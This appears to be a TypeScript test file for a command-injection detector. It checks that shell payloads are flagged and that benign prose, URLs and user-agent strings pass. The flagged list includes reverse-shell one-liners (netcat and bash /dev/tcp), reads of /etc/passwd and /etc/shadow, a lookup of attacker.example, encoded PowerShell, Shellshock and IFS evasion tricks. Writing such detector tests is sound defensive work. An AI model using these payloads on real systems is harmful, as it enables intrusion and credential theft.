import { test } from 'node:test';
import { command } from './command.ts';
import { checkValues } from './testing.ts';

test('command: separators followed by commands, substitution and shell-only syntax are flagged', () => {
  checkValues(command, {
    flagged: [
      '; cat /etc/passwd', '| whoami', '&& id', '|| uname -a', '; ls -la /', '`id`', '$(whoami)', '127.0.0.1; nc -e /bin/sh 10.0.0.1 4444', '127.0.0.1 && ping -c 10 127.0.0.1',
      'x; sleep 10', 'a | nslookup attacker.example', '& ping -n 20 127.0.0.1 &', '| powershell -enc SQBFAFgA', '& type C:\\Windows\\win.ini', '$(cat${IFS}/etc/passwd)',
      ';cat$IFS/etc/shadow', '{cat,/etc/passwd}', '| /usr/bin/id', '() { :; }; /bin/bash -c id', 'a\nwhoami', '; echo vulnerable', 'a.png`whoami`', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
      '8.8.8.8;id', 'x;uname${IFS}-a', '| cmd /c dir',
    ],
    passed: [
      'Tom & Jerry; cat lovers unite', 'Passport & ID', '| id | name |\n|----|------|', 'Use `ls -la` to list files', 'Run `npm test` before pushing; CI runs the same thing.',
      'Rock & roll never dies.', 'salt & pepper', 'We sleep 8 hours; sleep is important', "Q&A; type your question", 'R&D; ping me later', 'Meet me at Joe\'s Bar & Grill, 7pm; bring the tickets.',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 'https://example.com/?a=1&b=2&id=5', '$(document).ready(init)',
      'The pipeline has three stages: build, test & deploy.',
    ],
  });
});
